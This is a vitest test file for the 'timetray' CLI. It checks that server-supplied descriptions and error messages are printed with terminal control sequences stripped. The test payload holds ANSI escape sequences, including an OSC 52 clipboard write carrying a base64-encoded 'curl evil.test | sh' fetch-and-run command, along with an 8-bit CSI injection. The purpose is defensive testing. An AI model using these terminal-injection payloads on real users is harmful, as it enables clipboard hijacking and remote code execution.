/**
 * Descriptions come back from servers (a pull) and error text from them (a refusal): the real
 * `timetray` must print neither as terminal control. `--json` keeps the exact text, escaped by JSON.
 */
import BetterSqlite3 from 'better-sqlite3';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DB_FILE_NAME } from '../../electron/core/data-dir';
import { cli } from '../helpers/cli';
import { tempDir } from '../helpers/temp';

const ESC = '\x1b';
const HOSTILE = `meeting${ESC}[2J${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07 notes`;
// Anything a terminal would act on: ESC, BEL, CR, the 8-bit CSI.
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

let dir: string;
let cleanup: () => void;
beforeEach(() => ({ dir, cleanup } = tempDir('timetray-term-')));
afterEach(() => cleanup());

describe('the CLI prints no terminal control from stored text', () => {
  it('list shows a pulled description and a server error without their escape sequences; --json keeps them exact', () => {
    const add = cli(dir, ['add', 'placeholder', '--start', '2026-01-15T09:00:00Z', '--duration', '1h', '--json']);
    expect(add.stderr).toBe('');
    // What a pull stores from the server's own text: written as the sync engine writes it, into the file.
    const db = new BetterSqlite3(join(dir, DB_FILE_NAME));
    db.prepare('UPDATE entries SET description = ?, sync_error = ?').run(HOSTILE, `refused: ${HOSTILE}`);
    db.close();
    const list = cli(dir, ['list']);
    expect(list.code).toBe(0);
    expect(list.stdout).toContain('meeting notes');
    expect(list.stdout).not.toMatch(CONTROL);
    expect(list.stdout).toContain('refused: meeting notes');
    expect(JSON.parse(cli(dir, ['list', '--json']).stdout)[0].description).toBe(HOSTILE);
  });

  it('an error echoing text back prints it without escape sequences on stderr', () => {
    const r = cli(dir, ['delete', `nope\u009b2J${ESC}[2J`]); // JSON.stringify, which quotes the id, escapes ESC but not the 8-bit CSI
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('nope');
    expect(r.stderr).not.toMatch(CONTROL);
  });
});
